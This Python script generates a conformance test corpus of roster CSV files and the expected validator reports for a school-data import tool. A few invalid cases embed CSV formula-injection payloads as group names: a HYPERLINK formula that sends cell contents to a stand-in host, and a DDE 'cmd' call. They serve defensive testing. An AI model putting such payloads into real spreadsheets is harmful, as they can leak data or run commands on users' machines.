"""Writes the conformance corpus: small rosters with the report each one must get.

Each case is written as ``<valid|invalid>/<name>.csv`` with ``<name>.expected.json`` beside it:
``{"valid": ..., "errors": [{"rule", "row"}], "warnings": [...]}``. The expected problems are
written here by hand, from the rules; they are not produced by the validator. Run
``python -m tests.conformance.make_corpus`` after changing a case.
"""

import gzip
import json
from pathlib import Path

HERE = Path(__file__).parent
HEADER = "group_name,school_natural_id,school_year,subject_code,student_ssid,group_user_login"
A, B = "19647331930015", "19647331931294"  # CDS-shaped ids of two schools


def _row(group="Gr5_Math_Rm12", school=A, year="2027", subject="Math", ssid="", login=""):
    return ",".join((group, school, year, subject, ssid, login))


def _students(count: int, first: int = 0, **columns: str) -> list[str]:
    return [_row(ssid=f"{7_000_000_000 + n}", **columns) for n in range(first, first + count)]


def _csv(*rows: str, header: str = HEADER, newline: str = "\r\n") -> bytes:
    return "".join(line + newline for line in (header, *rows)).encode()


TEACHER = _row(login="mgarcia@district.example.org")
GROUP = [TEACHER, *_students(3)]
QUOTED_HEADER = ",".join(f'"{name}"' for name in HEADER.split(","))


def _each_row(change, rows: list[str] = GROUP) -> list[str]:
    return [change(row) for row in rows]


# name -> (bytes, expected errors, expected warnings); rows are data rows after the header.
VALID = {
    "minimal": (_csv(TEACHER, *_students(1)), [], []),
    "two-schools": (
        _csv(*GROUP, _row(group="Algebra1_P3", school=B, subject="Math", ssid="7000000100")),
        [],
        [],
    ),
    "teacher-on-every-row": (
        _csv(
            *[_row(ssid=f"70000000{n:02d}", login="mgarcia@district.example.org") for n in range(5)]
        ),
        [],
        [],
    ),
    "utf8-bom": (b"\xef\xbb\xbf" + _csv(*GROUP), [], []),
    "lf-line-endings": (_csv(*GROUP, newline="\n"), [], []),
    "subject-all": (_csv(*[r.replace(",Math,", ",All,") for r in GROUP]), [], []),
    "group-with-no-members": (_csv(_row()), [], []),
    "same-group-name-two-years": (_csv(_row(year="2027"), _row(year="2028")), [], []),
    "ssid-not-10-digits": (_csv(_row(ssid="12345")), [], [("ssid-format", 1)]),
    "login-not-email": (_csv(_row(login="mgarcia")), [], [("login-format", 1)]),
    "school-not-cds": (_csv(_row(school="DS9002")), [], [("school-id-not-cds", 1)]),
    "subject-not-repeated": (
        _csv(_row(subject=""), *_students(2)),
        [],
        [("group-subject-not-repeated", 1)],
    ),
    "cr-line-endings": (_csv(*GROUP, newline="\r"), [], []),
    "header-quoted": (
        _csv(*GROUP, header=QUOTED_HEADER),
        [],
        [("header-not-canonical", None)],
    ),
    "group-of-exactly-200-students": (_csv(TEACHER, *_students(200)), [], []),
    "excel-ssid-lost-leading-zero": (_csv(_row(ssid="700000001")), [], [("ssid-format", 1)]),
    "header-upper-case": (
        _csv(*GROUP, header=HEADER.upper()),
        [],
        [("header-not-canonical", None)],
    ),
}

INVALID = {
    "empty": (b"", [("empty-file", None)], []),
    "header-only": (_csv(), [("no-data-rows", None)], []),
    "xlsx-renamed": (
        b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(500),
        [("spreadsheet-file", None)],
        [],
    ),
    "utf16": (b"\xff\xfe" + _csv(*GROUP).decode().encode("utf-16-le"), [("utf16", None)], []),
    "utf16-no-bom": (_csv(*GROUP).decode().encode("utf-16-le"), [("utf16", None)], []),
    "windows-1252": (
        _csv(*GROUP, _row(ssid="7000000009", login="jos\xe9@district.example.org")).replace(
            b"\xc3\xa9", b"\xe9"
        ),
        [("not-utf8", 5)],
        [],
    ),
    "tab-delimited": (
        _csv(*[r.replace(",", "\t") for r in GROUP], header=HEADER.replace(",", "\t")),
        [("delimiter-not-comma", None)],
        [],
    ),
    "semicolon-delimited": (
        _csv(*[r.replace(",", ";") for r in GROUP], header=HEADER.replace(",", ";")),
        [("delimiter-not-comma", None)],
        [],
    ),
    "header-wrong-order": (
        _csv(*GROUP, header=HEADER.replace("school_year,subject_code", "subject_code,school_year")),
        [("header-mismatch", None)],
        [],
    ),
    "header-with-spaces": (
        _csv(*GROUP, header=HEADER.replace(",", ", ")),
        [("header-mismatch", None)],
        [],
    ),
    "mixed-line-endings": (
        _csv(*GROUP[:2]) + "".join(r + "\n" for r in GROUP[2:]).encode(),
        [("line-endings-mixed", 3)],
        [],
    ),
    "blank-line": (_csv(*GROUP[:2], "", *GROUP[2:]), [("blank-line", 2)], []),
    "five-fields": (_csv(*GROUP, _row(ssid="7000000009")[:-1]), [("field-count", 5)], []),
    "stray-quote": (
        _csv(*GROUP, _row(ssid='70000"00009')),
        [("quote-character", 5)],
        [("ssid-format", 5)],
    ),
    "quoted-line-break": (
        _csv(_row(login='"mgarcia@district.example.org\r\nsecond line"'), *_students(2)),
        [("quote-character", 1), ("field-line-break", 1)],
        [("login-format", 1)],
    ),
    "backslash-n": (
        _csv(*GROUP, _row(ssid="7000000009", login="\\N")),
        [("backslash", 5)],
        [("login-format", 5)],
    ),
    "emoji": (
        _csv(*GROUP, _row(group="Gr5_Math_Rm12\U0001f600")),
        [("non-bmp-character", 5), ("group-name-characters", 5)],
        [],
    ),
    "nul-byte": (
        _csv(*GROUP, _row(ssid="70000\x0000009")),
        [("nul-byte", 5)],
        [("ssid-format", 5)],
    ),
    "trailing-space-school": (
        _csv(*GROUP, _row(group="Other", school=A + " ")),
        [("whitespace-around-value", 5)],
        [("school-id-not-cds", 5)],
    ),
    "school-id-too-long": (_csv(_row(school="1" * 41)), [("school-id-too-long", 1)], []),
    "excel-scientific-notation": (
        _csv(_row(school="1.96473E+13")),
        [("excel-scientific-notation", 1)],
        [],
    ),
    "excel-lost-leading-zero": (
        _csv(_row(school="1611920130229")),
        [("excel-leading-zeros", 1)],
        [],
    ),
    "excel-decimal-suffix": (_csv(_row(ssid="7000000001.0")), [("excel-decimal-suffix", 1)], []),
    "group-name-space": (_csv(_row(group="Gr5 Math")), [("group-name-characters", 1)], []),
    "group-name-case": (
        _csv(*GROUP, _row(group="GR5_MATH_RM12", ssid="7000000009")),
        [("group-name-case", 5)],
        [],
    ),
    "group-name-too-long": (_csv(_row(group="G" * 101)), [("group-name-too-long", 1)], []),
    "group-name-blank": (_csv(*GROUP, _row(group="")), [("group-name-blank", 5)], []),
    "school-year-range": (_csv(_row(year="26-27")), [("school-year-format", 1)], []),
    "school-year-not-accepted": (_csv(_row(year="2019")), [("school-year-not-accepted", 1)], []),
    "subject-unknown": (_csv(_row(subject="Science")), [("subject-code-unknown", 1)], []),
    "subject-changes": (
        _csv(*GROUP, _row(subject="ELA", ssid="7000000009")),
        [("group-subject-changes", 5)],
        [],
    ),
    "duplicate-row": (_csv(*GROUP, GROUP[1]), [("duplicate-row", 5)], []),
    "duplicate-student": (
        _csv(*GROUP, _row(ssid="7000000000", login="rpatel@district.example.org")),
        [("duplicate-student", 5)],
        [],
    ),
    "group-over-200-students": (_csv(TEACHER, *_students(201)), [("group-too-large", 1)], []),
    "group-over-200-counting-repeats": (
        _csv(TEACHER, *_students(199), *_students(2)),
        [("duplicate-row", 201), ("duplicate-row", 202), ("group-too-large", 1)],
        [],
    ),
    "school-not-contiguous": (
        _csv(*GROUP, _row(school=B), _row(group="Other", school=A)),
        [("school-not-contiguous", 6)],
        [],
    ),
    "group-not-contiguous": (
        _csv(*GROUP, _row(group="Other"), _row(ssid="7000000009")),
        [("group-not-contiguous", 6)],
        [],
    ),
    "ssid-too-long": (_csv(_row(ssid="7" * 66)), [("ssid-too-long", 1)], []),
    "login-too-long": (_csv(_row(login="t" * 250 + "@x.org")), [("login-too-long", 1)], []),
    "xls-renamed": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        [("spreadsheet-file", None)],
        [],
    ),
    "utf16-big-endian": (
        b"\xfe\xff" + _csv(*GROUP).decode().encode("utf-16-be"),
        [("utf16", None)],
        [],
    ),
    "gzip-renamed": (gzip.compress(_csv(*GROUP), mtime=0), [("binary-file", None)], []),
    "nul-bytes-everywhere": (_csv(*GROUP).replace(b",", b",\x00"), [("binary-file", None)], []),
    "html-error-page": (
        b"<!DOCTYPE html>\n<html><head><title>500 Internal Server Error</title>"
        b"<style>body{margin:0;}</style></head>\n<body><h1>Export failed</h1></body></html>\n",
        [("header-mismatch", None)],
        [],
    ),
    "json-saved-as-csv": (
        b'{"error": "export failed", "rows": []}\n',
        [("header-mismatch", None), ("no-data-rows", None)],
        [],
    ),
    "bom-only": (b"\xef\xbb\xbf", [("empty-file", None)], []),
    "whitespace-only": (b"   \r\n", [("header-mismatch", None), ("no-data-rows", None)], []),
    "second-bom": (b"\xef\xbb\xbf\xef\xbb\xbf" + _csv(*GROUP), [("header-mismatch", None)], []),
    "blank-first-line": (b"\r\n" + _csv(*GROUP), [("header-mismatch", None)], []),
    "excel-sep-line": (b"sep=,\r\n" + _csv(*GROUP), [("header-mismatch", None)], []),
    "pipe-delimited": (
        _csv(*_each_row(lambda r: r.replace(",", "|")), header=HEADER.replace(",", "|")),
        [("delimiter-not-comma", None)],
        [],
    ),
    "header-duplicate-column": (
        _csv(*GROUP, header=HEADER.replace("group_user_login", "student_ssid")),
        [("header-mismatch", None)],
        [],
    ),
    "header-missing-column": (
        _csv(*_each_row(lambda r: r.rsplit(",", 1)[0]), header=HEADER.rsplit(",", 1)[0]),
        [("header-mismatch", None)],
        [],
    ),
    "header-extra-column": (
        _csv(*_each_row(lambda r: r + ",Room 12"), header=HEADER + ",notes"),
        [("header-mismatch", None)],
        [],
    ),
    "header-windows-1252": (
        _csv(*GROUP).replace(b"group_name", b"group_nam\xe9"),
        [("header-mismatch", None)],
        [],
    ),
    "excel-trailing-empty-columns": (
        _csv(*_each_row(lambda r: r + ",,,,"), header=HEADER + ",,,,"),
        [("header-mismatch", None)],
        [],
    ),
    "trailing-empty-columns-in-rows": (
        _csv(*_each_row(lambda r: r + ",,,,")),
        [("field-count", 1), ("field-count", 2), ("field-count", 3), ("field-count", 4)],
        [],
    ),
    "excel-empty-rows-at-end": (
        _csv(*GROUP, ",,,,,", ",,,,,"),
        [
            ("group-name-blank", 5),
            ("school-id-blank", 5),
            ("school-year-blank", 5),
            ("group-name-blank", 6),
            ("school-id-blank", 6),
            ("school-year-blank", 6),
        ],
        [],
    ),
    "blank-lines-at-end": (_csv(*GROUP) + b"\r\n\r\n", [("blank-line", 4), ("blank-line", 4)], []),
    "trailing-comma": (_csv(*GROUP, _row(ssid="7000000009") + ","), [("field-count", 5)], []),
    "lf-header-crlf-rows": (
        _csv(newline="\n") + "".join(r + "\r\n" for r in GROUP).encode(),
        [("line-endings-mixed", 1)],
        [],
    ),
    "ctrl-z-at-end": (
        _csv(*GROUP) + b"\x1a",
        [("control-character", 5), ("field-count", 5)],
        [],
    ),
    "unterminated-quote": (
        _csv(*GROUP, _row(group='"Gr5_Math_Rm12', ssid="7000000009"), _row(ssid="7000000010")),
        [("quote-character", 5)],
        [],
    ),
    "text-after-closing-quote": (
        _csv(*GROUP, _row(group='"Gr5"_Math', ssid="7000000009")),
        [("quote-character", 5)],
        [],
    ),
    "every-field-quoted": (
        _csv(
            *_each_row(lambda r: ",".join(f'"{value}"' for value in r.split(","))),
            header=QUOTED_HEADER,
        ),
        [
            ("quote-character", 1),
            ("quote-character", 2),
            ("quote-character", 3),
            ("quote-character", 4),
        ],
        [("header-not-canonical", None)],
    ),
    "line-of-1-mb": (
        _csv(*GROUP, _row(group="G" * (1 << 20)), *_students(2, first=10)),
        [("line-too-long", 5)],
        [],
    ),
    "whitespace-padded-ssid": (
        _csv(*GROUP, _row(ssid=" 7000000009 ")),
        [("whitespace-around-value", 5)],
        [("ssid-format", 5)],
    ),
    "no-break-space-after-ssid": (
        _csv(*GROUP, _row(ssid="7000000009\xa0")),
        [("whitespace-around-value", 5)],
        [("ssid-format", 5)],
    ),
    "whitespace-padded-year": (
        _csv(_row(year=" 2027")),
        [("whitespace-around-value", 1), ("school-year-format", 1)],
        [],
    ),
    "tab-inside-group-name": (
        _csv(_row(group="Gr5\tMath")),
        [("control-character", 1), ("group-name-characters", 1)],
        [],
    ),
    "zero-width-space-in-group-name": (
        _csv(_row(group="Gr5\u200bMath")),
        [("group-name-characters", 1)],
        [],
    ),
    "formula-hyperlink-group-name": (
        _csv(_row(group='=HYPERLINK("http://evil.example/?x"&A1)')),
        [("quote-character", 1), ("group-name-characters", 1)],
        [],
    ),
    "formula-plus-group-name": (
        _csv(_row(group="+cmd|' /C calc'!A0")),
        [("group-name-characters", 1)],
        [],
    ),
    "formula-at-group-name": (_csv(_row(group="@SUM(1+1)")), [("group-name-characters", 1)], []),
    "excel-scientific-ssid": (
        _csv(_row(ssid="7.00000E+09")),
        [("excel-scientific-notation", 1)],
        [],
    ),
    "excel-decimal-school": (_csv(_row(school=A + ".0")), [("excel-decimal-suffix", 1)], []),
    "excel-decimal-year": (_csv(_row(year="2027.0")), [("excel-decimal-suffix", 1)], []),
    "excel-year-as-date": (_csv(_row(year="7/19/1905")), [("school-year-format", 1)], []),
    "school-year-plus-sign": (_csv(_row(year="+2027")), [("school-year-format", 1)], []),
    "subject-all-then-math": (
        _csv(*_each_row(lambda r: r.replace(",Math,", ",All,")), _row(ssid="7000000009")),
        [("group-subject-changes", 5)],
        [],
    ),
}


def _problems(found: list[tuple[str, int | None]]) -> list[dict]:
    return [{"rule": rule, "row": row} for rule, row in found]


def write_corpus() -> None:
    for folder, cases in (("valid", VALID), ("invalid", INVALID)):
        (HERE / folder).mkdir(exist_ok=True)
        for name, (data, errors, warnings) in cases.items():
            (HERE / folder / f"{name}.csv").write_bytes(data)
            expected = {
                "valid": not errors,
                "errors": _problems(errors),
                "warnings": _problems(warnings),
            }
            text = json.dumps(expected, indent=2) + "\n"
            (HERE / folder / f"{name}.expected.json").write_text(text)


if __name__ == "__main__":
    write_corpus()
